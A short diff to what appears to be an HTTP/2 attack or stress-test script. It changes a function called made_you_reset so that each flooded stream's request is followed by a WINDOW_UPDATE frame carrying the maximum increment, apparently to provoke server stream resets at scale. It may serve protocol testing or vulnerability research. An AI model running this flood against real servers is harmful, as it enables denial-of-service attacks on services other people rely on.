@@ -120,7 +120,7 @@ def made_you_reset(attacker):
 
     def one():
         stream = attacker.new_stream()
-        return attacker.request(stream) + h2.window_update(stream, 0)
+        return attacker.request(stream) + h2.window_update(stream, (1 << 31) - 1)
 
     attacker.flood(one)
 
